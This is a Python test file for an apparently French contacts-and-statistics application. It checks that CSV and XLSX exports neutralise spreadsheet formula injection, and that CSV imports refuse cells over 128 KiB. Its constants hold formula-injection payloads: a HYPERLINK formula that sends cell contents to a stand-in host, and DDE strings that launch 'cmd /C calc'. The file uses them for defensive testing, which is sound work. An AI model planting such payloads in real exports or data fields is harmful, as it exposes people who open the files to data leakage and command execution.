"""Formula injection in exports (issue 11): a text cell that an import, a note or the sync
put in the base reads as text in every CSV and XLSX, never as a formula; numbers stay
numbers; the directory CSV still round-trips. Also the CSV import's 128 KiB cell limit."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, text

from frontdesk.accounts import ProfileInfo
from frontdesk.cli import main
from frontdesk.contacts.exporting import export_directory
from frontdesk.contacts.importing import ImportFileError, import_file
from frontdesk.contacts.models import Service, Structure
from frontdesk.spreadsheet_cells import FORMULA_TRIGGERS, neutral_cell, neutral_text, restore_text
from frontdesk.stats.periods import Period
from frontdesk.stats.tally import rebuild_tally
from frontdesk.store.engine import Store
from tests.core.test_directory_import import counts, row, write_csv
from tests.core.test_exports import at, export, save

LINK = '=HYPERLINK("http://x.test/?leak="&A1;"Cliquez ici")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
NUMBER = re.compile(r"-?\d+(,\d+)?")  # how the CSV writes a number (French decimals)
S1_2026, S2_2025 = Period.half_year(2026, 1), Period.half_year(2025, 2)


@pytest.fixture
def ready(store: Store, manager: ProfileInfo) -> Store:
    return store


def csv_cells(path: Path) -> list[list[str]]:
    """Every row of a CSV as French Excel splits it (« ; »), comment lines included."""
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


def live_cells(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would run: starting with a trigger and not a number."""
    return [
        c for r in rows for c in r if c.startswith(FORMULA_TRIGGERS) and not NUMBER.fullmatch(c)
    ]


# --- the shared rule --------------------------------------------------------------------


@pytest.mark.parametrize("formula", [LINK, COMMAND, SUM, AT, "\t=1+1", "\r=1+1"])
def test_every_trigger_gets_an_apostrophe(formula: str) -> None:
    assert neutral_text(formula) == "'" + formula
    assert neutral_cell(formula) == "'" + formula


def test_plain_text_and_numbers_are_kept() -> None:
    for plain in ("Mission locale", "", "'", "80110", "a=b", " =1"):
        assert neutral_text(plain) == plain
    assert neutral_cell(-3) == -3 and neutral_cell(2.5) == 2.5 and neutral_cell(None) == ""


@pytest.mark.parametrize("original", [LINK, "'=déjà échappée", "''-1", "'abc", "'", "", "=", "x"])
def test_restore_gives_back_exactly_the_original(original: str) -> None:
    assert restore_text(neutral_text(original)) == original


# --- the directory CSV ------------------------------------------------------------------


def test_directory_csv_neutralises_formulas_and_round_trips(ready: Store, tmp_path: Path) -> None:
    rows = [
        row(1, nom=LINK, description=COMMAND, conditions_acces=SUM, publics_precisions=AT),
        row(2, telephone="+44 20 7946 0958"),
        row(23, structure_nom="=1+1 Structure", structure_adresse="-5 rue des Prés"),
    ]
    report = import_file(ready, write_csv(tmp_path / "a.csv", rows))
    assert report.rejected == []
    with ready.transaction() as session:  # typed in the editor: an apostrophe of its own
        service = session.scalar(select(Service).where(Service.di_id == "dora--svc-2"))
        service.complement_adresse = "'=déjà échappée"
    before = counts(ready)
    target = tmp_path / "export.csv"
    with ready.session() as session:
        export_directory(session, target, "csv")
    exported = csv_cells(target)
    assert live_cells(exported) == []
    cells = {c for r in exported for c in r}
    assert {"'" + LINK, "'" + COMMAND, "'" + SUM, "'" + AT, "'=1+1 Structure"} <= cells
    assert {"''=déjà échappée", "'+44 20 7946 0958", "'-5 rue des Prés"} <= cells
    again = import_file(ready, target)  # the apostrophes the export added come off
    assert again.rejected == [] and again.created == again.updated == 0
    assert again.unchanged == before[0] + before[1] and counts(ready) == before
    with ready.session() as session:
        services = {s.di_id: s for s in session.scalars(select(Service))}
        structure = session.scalar(select(Structure).where(Structure.di_id == "dora--str-2"))
    assert (services["dora--svc-1"].nom, services["dora--svc-1"].description) == (LINK, COMMAND)
    assert services["dora--svc-2"].complement_adresse == "'=déjà échappée"
    assert services["dora--svc-2"].telephone == "+442079460958"
    assert (structure.nom, structure.adresse) == ("=1+1 Structure", "-5 rue des Prés")


# --- the statistics ---------------------------------------------------------------------


@pytest.fixture
def synced(store: Store, manager: ProfileInfo) -> Store:
    """Visits whose category ids and commune came in by sync (not checked like a local
    entry), a site name with « ; », a note starting with « = »; fewer visits than the
    period before, so some changes are negative numbers."""
    save(store, manager, at(3, 3, 9), note="=1+2")
    for day in (1, 2):
        save(store, manager, at(9, day, 9, year=2025))
    category = json.dumps([f"{LINK}--demarche"])
    with store.transaction() as session:
        session.execute(text("UPDATE visit SET thematiques = :t"), {"t": category})
        session.execute(text("UPDATE visit SET commune_insee = '=2+3'"))
        session.execute(text("UPDATE site SET name = name || ' ;=4+5'"))
        rebuild_tally(session)
    return store


def test_stats_csv_by_count_neutralises_synced_ids(synced: Store, tmp_path: Path) -> None:
    target = tmp_path / "stats.csv"
    export(synced, "csv", target)
    rows = csv_cells(target)
    assert live_cells(rows) == []
    by_code = {(r[0], r[1]): r for r in rows if len(r) == 6}
    category = by_code[("Par catégorie de besoin", "'" + LINK)]
    assert category[2:] == ["'" + LINK, "1", "2", "-1"]  # the change is still a number
    assert by_code[("Chiffres clés", "visites")][3:] == ["1", "2", "-1"]
    assert any(r[0].startswith("# Sites : tous (") and "=4+5" in r[0] for r in rows)


def test_stats_csv_per_visit_neutralises_notes(synced: Store, tmp_path: Path) -> None:
    target = tmp_path / "visites.csv"
    export(synced, "csv", target, per_visit=True, include_notes=True)
    rows = csv_cells(target)
    assert live_cells(rows) == []
    header = next(r for r in rows if r[0] == "Date")
    visit = dict(zip(header, rows[rows.index(header) + 1], strict=True))
    assert visit["Note"] == "'=1+2"
    assert visit["Catégories"] == "'" + LINK
    assert visit["Commune (INSEE)"] == "'=2+3"
    assert visit["Site"].endswith(" ;=4+5")


@pytest.mark.parametrize("per_visit", [False, True])
def test_xlsx_has_no_formula_and_shows_the_csv_text(
    synced: Store, tmp_path: Path, per_visit: bool
) -> None:
    target = tmp_path / "stats.xlsx"
    export(synced, "xlsx", target, per_visit=per_visit, include_notes=per_visit)
    book = load_workbook(target)
    cells = [cell for sheet in book.worksheets for line in sheet.iter_rows() for cell in line]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert [t for t in texts if t.startswith(FORMULA_TRIGGERS)] == []
    if per_visit:
        sheet = list(book["Visites"].iter_rows(values_only=True))
        visit = dict(zip(sheet[0], sheet[1], strict=True))
        assert (visit["Note"], visit["Catégories"]) == ("'=1+2", "'" + LINK)
        assert visit["Commune (INSEE)"] == "'=2+3"
    else:
        categories = list(book["Catégories"].iter_rows(min_row=2, max_row=2, values_only=True))
        assert categories[0][:4] == ("'" + LINK, 1, 2, -1)  # numbers stay numbers
        assert categories[0][5] == "'" + LINK


# --- a CSV import cell over 128 KiB -----------------------------------------------------


def test_oversized_cell_refuses_the_file_naming_its_line(ready: Store, tmp_path: Path) -> None:
    rows = [row(1), row(2, description="Deux\nlignes"), row(3, description="x" * 140_000)]
    path = write_csv(tmp_path / "gros.csv", rows)
    with pytest.raises(ImportFileError) as refused:
        import_file(ready, path)
    assert str(refused.value) == "« gros.csv », ligne 5 : une cellule dépasse 128 Kio."
    assert counts(ready) == (0, 0, 0)


def test_cli_refuses_an_oversized_cell_in_french(
    ready: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write_csv(tmp_path / "gros.csv", [row(1, nom="n" * 200_000)])
    assert main(["directory", "import", str(path)]) == 2
    err = capsys.readouterr().err
    assert "Fichier refusé, rien n'a été importé : « gros.csv », ligne 2 :" in err
    assert "Erreur inattendue" not in err
    assert counts(ready) == (0, 0, 0)
